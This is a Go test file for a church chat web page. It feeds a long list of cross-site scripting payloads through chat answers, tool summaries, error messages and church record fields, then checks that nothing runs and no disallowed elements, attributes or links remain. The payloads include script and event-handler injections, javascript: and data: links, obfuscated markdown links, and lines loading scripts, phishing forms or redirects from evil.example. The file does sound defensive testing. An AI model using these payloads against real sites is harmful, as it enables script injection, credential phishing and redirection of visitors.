package pages_test

import (
	"fmt"
	"strings"
	"testing"
)

// payloads are ways in which text has become code in somebody's chat, each of which would set window.pwned or leave
// behind an element, an attribute or an address that could.
var payloads = []string{
	`<script>window.pwned = 1</script>`,
	`<script src="https://evil.example/x.js"></script>`,
	`<img src=x onerror="window.pwned = 1">`,
	`<img src=x onerror=window.pwned=1//`,
	`<svg onload="window.pwned = 1">`,
	`<svg><script>window.pwned = 1</script></svg>`,
	`<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`,
	`<math><mtext></p><img src=x onerror=window.pwned=1></mtext></math>`,
	`<iframe src="javascript:parent.pwned = 1"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
	`<object data="javascript:window.pwned=1"></object>`,
	`<embed src="data:text/html,<script>parent.pwned=1</script>">`,
	`<a href="javascript:window.pwned=1">click</a>`,
	`<form action="https://evil.example"><input name="password"><button>Sign in</button></form>`,
	`<style>* { display: none }</style>`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<body onload=window.pwned=1>`,
	`<details open ontoggle=window.pwned=1>`,
	`<video><source onerror="window.pwned=1"></video>`,
	`<template><script>window.pwned=1</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
	`</p></div></li><script>window.pwned=1</script>`,
	`<!--><script>window.pwned=1</script>-->`,
	`<![CDATA[<script>window.pwned=1</script>]]>`,
	`</script><script>window.pwned=1</script>`,
	`]]></script><img src=x onerror=window.pwned=1>`,
	`[click](javascript:window.pwned=1)`,
	`[click](JaVaScRiPt:window.pwned=1)`,
	`[click](  javascript:window.pwned=1  )`,
	"[click](java\tscript:window.pwned=1)",
	"[click](<java\nscript:window.pwned=1>)",
	"[click](\x01javascript:window.pwned=1)",
	"[click](\u00a0javascript:window.pwned=1)",
	`[click](javascript&colon;window.pwned=1)`,
	`[click](&#106;avascript:window.pwned=1)`,
	`[click](%6Aavascript:window.pwned=1)`,
	`[click](javascript\:window.pwned=1)`,
	`[click](vbscript:msgbox(1))`,
	`[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
	`[click](data:image/svg+xml,<svg onload=window.pwned=1>)`,
	`[click](blob:https://x.example/0)`,
	`[click](file:///etc/passwd)`,
	`[click](filesystem:https://x.example/temporary/x)`,
	`[click](view-source:https://x.example)`,
	`[click](intent://scan/#Intent;scheme=zxing;end)`,
	`[click](//evil.example)`,
	`[click](/\evil.example)`,
	`[click](https:evil.example)`,
	`[click](https://bank.example@evil.example)`,
	`[click](https://user:password@evil.example)`,
	`[click](https://x.example/" onmouseover="window.pwned=1)`,
	`[click](https://x.example/'onmouseover='window.pwned=1)`,
	`[a](https://x.example "title" onmouseover="window.pwned=1")`,
	`[<img src=x onerror=window.pwned=1>](https://x.example)`,
	`![x](x" onerror="window.pwned=1)`,
	`![x](javascript:window.pwned=1)`,
	`![<script>window.pwned=1</script>](https://x.example/x.png)`,
	`[![x](https://evil.example/track.png)](javascript:window.pwned=1)`,
	`<javascript:window.pwned=1>`,
	`<https://x.example/"onmouseover="window.pwned=1>`,
	`<data:text/html,<script>window.pwned=1</script>>`,
	"`<script>window.pwned=1</script>`",
	"```\n</code></pre><script>window.pwned=1</script>\n```",
	"```\"><img src=x onerror=window.pwned=1>\nx\n```",
	"# <img src=x onerror=window.pwned=1>",
	"> <script>window.pwned=1</script>",
	"- <script>window.pwned=1</script>\n- [x](javascript:window.pwned=1)",
	"**<script>window.pwned=1</script>** *<img src=x onerror=window.pwned=1>*",
	"[x]: javascript:window.pwned=1\n[click][x]",
	"[click][javascript:window.pwned=1]",
	`javascript:window.pwned=1//https://x.example`,
	`https://x.example/<script>window.pwned=1</script>`,
	`a@x.example"onclick="window.pwned=1`,
	"\u202etxt.exe\u202c <script\u2028>window.pwned=1</script\u2028>",
	"<scr\x00ipt>window.pwned=1</scr\x00ipt>",
	`{{constructor.constructor("window.pwned=1")()}}`,
	`${window.pwned=1}`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.pwned=1//'>`,
}

// harm is what the page has that no answer may bring about: a list of complaints.
const harm = `(() => {
	const found = [];
	if (window.pwned !== undefined) found.push("code was run");
	const allowed = new Set(["OL","UL","LI","P","DIV","SPAN","BR","STRONG","EM","CODE","PRE","BLOCKQUOTE","HR","A","DETAILS","SUMMARY","BUTTON"]);
	const attributes = new Set(["class","dir","href","rel","target","start","hidden","tabindex","aria-busy","aria-hidden","type","data-messages","data-retry"]);
	for (const element of document.querySelectorAll("[data-messages], [data-messages] *")) {
		if (!allowed.has(element.tagName)) found.push("element " + element.tagName);
		for (const { name } of element.attributes) if (!attributes.has(name)) found.push(element.tagName + " with attribute " + name);
	}
	for (const link of document.querySelectorAll("[data-messages] a")) {
		if (!["http:", "https:", "mailto:", "tel:"].includes(link.protocol)) found.push("link to " + link.href);
		if (link.username || link.password) found.push("misleading link to " + link.href);
		if (link.hostname === "evil.example" && !link.textContent.includes("evil.example")) found.push("misleading link to " + link.href);
		if (!link.relList.contains("noopener")) found.push("link without noopener");
	}
	return found.join("; ");
})()`

func TestAnswersCannotInject(t *testing.T) {
	if len(payloads) < 40 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	s, page, _ := openChat(t, phone)
	for _, payload := range payloads {
		page.ask(strings.ReplaceAll(payload, "\x01", ""))
		x := s.next()
		x.start()
		x.send("tool", object{"name": "leave_message", "status": "done", "summary": payload})
		// In two pieces: what is harmless as a whole may not be so when cut.
		half := len([]rune(payload)) / 2
		x.delta(string([]rune(payload)[:half]))
		x.delta(string([]rune(payload)[half:]))
		x.send("sources", object{"items": []object{{"id": payload, "kind": payload, "title": payload, "similarity": 0.9}}})
		x.finish("error", object{"code": payload, "message": payload, "retryable": true})
		page.wait(`document.querySelector("` + failure + `") !== null`)
		if found := eval[string](page, harm); found != "" {
			t.Errorf("%q: %s", payload, found)
		}
		eval[any](page, `document.querySelector("[data-messages]").replaceChildren()`)
	}
	// Everything again from this browser's copy.
	page.open(s.url + "/chat/grace-harbor")
	if page.count(".message--visitor") == 0 {
		t.Fatal("nothing was restored")
	}
	if found := eval[string](page, harm); found != "" {
		t.Errorf("after a reload: %s", found)
	}
}

// What comes from the church's own record goes through the templates.
func TestChurchesCannotInject(t *testing.T) {
	grace := graceHarbor()
	const payload = `</script><script>window.pwned=1</script>"><img src=x onerror=window.pwned=1>'`
	grace.Name, grace.Denomination, grace.Phone, grace.Email, grace.Website = payload, payload, payload, payload, `javascript:window.pwned=1`
	grace.Address.Street, grace.Address.City, grace.Address.State = payload, payload, payload
	s := serve(t, grace)
	page := newTab(t, phone)
	page.open(s.url + "/chat/grace-harbor?agent=%22%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E")
	if found := eval[string](page, harm); found != "" {
		t.Error(found)
	}
	if page.count("body img") != 0 || page.count("script:not([src]):not([type='application/json'])") != 0 {
		t.Errorf("page: %s", eval[string](page, `document.body.outerHTML`))
	}
	if !strings.Contains(page.text("h1"), "<script>window.pwned=1</script>") {
		t.Errorf("name: %s", page.text("h1"))
	}
	hrefs := eval[[]string](page, `[...document.querySelectorAll(".about-panel a")].map((a) => a.protocol)`)
	if got := fmt.Sprint(hrefs); got != "[tel: mailto: https:]" {
		t.Errorf("links: %s", got)
	}
}

// The policy, not only the renderer, stands between a mistake and the visitor.
func TestThePolicyForbidsHTMLFromText(t *testing.T) {
	_, page, _ := openChat(t, phone)
	for _, mistake := range []string{
		`document.querySelector(".prose, main").innerHTML = "<b>x</b>"`,
		`document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
		`new Function("return 1")`,
		`document.createElement("script").src = "/x.js"`,
	} {
		// Later, because what the debugger evaluates at once is exempt from the policy.
		refused := eval[bool](page, fmt.Sprintf(`new Promise((resolve) => setTimeout(() => {
			try { %s; resolve(false); } catch { resolve(true); }
		}))`, mistake))
		if !refused {
			t.Errorf("allowed: %s", mistake)
		}
	}
	page.forgive()
}
